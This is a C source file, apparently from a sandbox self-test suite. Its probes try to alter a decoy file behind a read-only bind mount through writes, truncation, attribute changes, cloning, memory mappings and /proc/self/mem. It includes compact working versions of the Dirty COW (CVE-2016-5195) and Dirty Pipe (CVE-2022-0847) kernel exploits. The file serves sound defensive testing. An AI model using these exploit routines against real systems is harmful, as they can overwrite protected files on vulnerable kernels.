/* SPDX-License-Identifier: MIT */
/* Attempts to change a file behind a read-only bind, /ro: by its mode anybody may write it. */
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

#include "selftest/probe.h"

enum { PAGE = 4096, RACE_ROUNDS = 2000, STACK_SIZE = 16384 };

static const char *path_of(const struct probe_call *call)
{
	static char path[256];

	(void)snprintf(path, sizeof(path), "/ro/%s", call->id);
	return path;
}

/* The decoy for reading; -1 when it is not there, which no probe can do without. */
static int open_decoy(const struct probe_call *call)
{
	return open(path_of(call), O_RDONLY | O_CLOEXEC);
}

static enum outcome no_decoy(const struct probe_call *call)
{
	return probe_na(call, "no read-only bind here: %s", strerror(errno));
}

/* Does the file still begin with what the host wrote? */
static enum outcome look_again(const struct probe_call *call, const char *way)
{
	return probe_holds_canary(call, path_of(call)) == 1
		       ? probe_held(call, "%s changed nothing", way)
		       : probe_fell(call, "%s changed a read-only file", way);
}

static enum outcome plain_write(const struct probe_call *call)
{
	int fd = open(path_of(call), O_WRONLY | O_CLOEXEC);
	int made;

	if (fd >= 0) {
		(void)probe_scribble(fd);
		return probe_fell(call, "it opens for writing");
	}
	made = open("/ro/new", O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
	if (made >= 0) {
		(void)unlink("/ro/new");
		return probe_fell(call, "a file can be made there");
	}
	return probe_held(call, "opening it: %s", strerror(errno));
}

static enum outcome shape(const struct probe_call *call)
{
	const char *path = path_of(call);
	int fd = open_decoy(call);

	if (fd < 0) {
		return no_decoy(call);
	}
	if (truncate(path, 0) == 0 || ftruncate(fd, 0) == 0) {
		return probe_fell(call, "it can be truncated");
	}
	if (fallocate(fd, 0, 0, 1 << 20) == 0) {
		return probe_fell(call, "fallocate extends it");
	}
	if (rename(path, "/ro/other") == 0 || unlink(path) == 0) {
		return probe_fell(call, "it can be moved away");
	}
	return look_again(call, "truncate, fallocate, rename, unlink");
}

static enum outcome attributes(const struct probe_call *call)
{
	const char *path = path_of(call);
	const struct timeval times[2] = {{.tv_sec = 1}, {.tv_sec = 1}};

	if (open_decoy(call) < 0) {
		return no_decoy(call);
	}
	if (chmod(path, 0600) == 0 || utimes(path, times) == 0 ||
		setxattr(path, "user.x", "y", 1, 0) == 0) {
		return probe_fell(call, "mode, times or attributes can be changed");
	}
	return probe_held(call, "chmod, utimes, setxattr: %s", strerror(errno));
}

static enum outcome clone_into(const struct probe_call *call)
{
	enum { FICLONE_CALL = 0x40049409 };
	int fd = open_decoy(call);
	int source = open("/tmp/source", O_CREAT | O_RDWR | O_CLOEXEC, 0600);

	if (fd < 0) {
		return no_decoy(call);
	}
	(void)probe_scribble(source);
	if (ioctl(fd, FICLONE_CALL, source) == 0) {
		return probe_fell(call, "FICLONE writes to a descriptor for reading");
	}
	(void)syscall(SYS_copy_file_range, source, NULL, fd, NULL, 16, 0);
	return look_again(call, "FICLONE and copy_file_range");
}

static enum outcome map_shared(const struct probe_call *call)
{
	int fd = open_decoy(call);
	char *map;

	if (fd < 0) {
		return no_decoy(call);
	}
	map = mmap(NULL, PAGE, PROT_READ, MAP_SHARED, fd, 0);
	if (map == MAP_FAILED) {
		return probe_held(call, "no mapping: %s", strerror(errno));
	}
	if (mprotect(map, PAGE, PROT_READ | PROT_WRITE) == 0) {
		map[0] = '!';
		(void)msync(map, PAGE, MS_SYNC);
		return probe_fell(call, "a shared mapping becomes writable");
	}
	return look_again(call, "mprotect of a shared mapping");
}

/* The kernel forces writes through /proc/self/mem into pages that are mapped for reading. */
static enum outcome self_mem(const struct probe_call *call)
{
	int fd = open_decoy(call);
	int mem = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
	char *map;

	if (fd < 0) {
		return no_decoy(call);
	}
	map = mmap(NULL, PAGE, PROT_READ, MAP_SHARED, fd, 0);
	if (mem < 0 || map == MAP_FAILED) {
		return probe_held(call, "/proc/self/mem: %s", strerror(errno));
	}
	(void)!pwrite(mem, "!!!!", 4, (off_t)(uintptr_t)map);
	(void)msync(map, PAGE, MS_SYNC);
	return look_again(call, "/proc/self/mem");
}

struct race {
	char *map;
	int mem;
};

static int race_main(void *arg)
{
	const struct race *race = arg;

	for (int i = 0; i < RACE_ROUNDS; i++) {
		(void)madvise(race->map, PAGE, MADV_DONTNEED);
	}
	return 0;
}

/* CVE-2016-5195: throw the private copy away between the fault and the write. */
static enum outcome dirty_cow(const struct probe_call *call)
{
	static _Alignas(16) char stack[STACK_SIZE];
	int fd = open_decoy(call);
	struct race race = {.mem = open("/proc/self/mem", O_RDWR | O_CLOEXEC)};
	pid_t pid;

	if (fd < 0) {
		return no_decoy(call);
	}
	race.map = mmap(NULL, PAGE, PROT_READ, MAP_PRIVATE, fd, 0);
	if (race.mem < 0 || race.map == MAP_FAILED) {
		return probe_held(call, "/proc/self/mem: %s", strerror(errno));
	}
	/* The other half of the race has to share our memory. */
	pid = clone(race_main, stack + sizeof(stack), CLONE_VM | SIGCHLD, &race);
	for (int i = 0; pid > 0 && i < RACE_ROUNDS; i++) {
		(void)!pwrite(race.mem, "!!!!", 4, (off_t)(uintptr_t)race.map);
	}
	(void)waitpid(pid, NULL, 0);
	return look_again(call, "the race for a private page");
}

/* CVE-2022-0847: a pipe whose buffers still say that they may be appended to. */
static enum outcome dirty_pipe(const struct probe_call *call)
{
	int fd = open_decoy(call);
	off_t at = 0;
	int fds[2];
	char block[PAGE];

	if (fd < 0) {
		return no_decoy(call);
	}
	if (pipe2(fds, O_CLOEXEC) < 0) {
		return probe_na(call, "no pipe: %s", strerror(errno));
	}
	memset(block, 'x', sizeof(block));
	for (int i = 0; i < 16; i++) {
		(void)!write(fds[1], block, sizeof(block));
	}
	for (int i = 0; i < 16; i++) {
		(void)!read(fds[0], block, sizeof(block));
	}
	if (splice(fd, &at, fds[1], NULL, 1, 0) != 1) {
		return probe_held(call, "splice: %s", strerror(errno));
	}
	(void)!write(fds[1], "!!!!!!!!", 8);
	return look_again(call, "writing behind a spliced page");
}

const struct probe probes_read_only[] = {
	{"ro-write", plain_write},
	{"ro-shape", shape},
	{"ro-attributes", attributes},
	{"ro-clone", clone_into},
	{"ro-map", map_shared},
	{"ro-self-mem", self_mem},
	{"ro-dirty-cow", dirty_cow},
	{"ro-dirty-pipe", dirty_pipe},
};
const size_t probes_read_only_count = ARRAY_SIZE(probes_read_only);
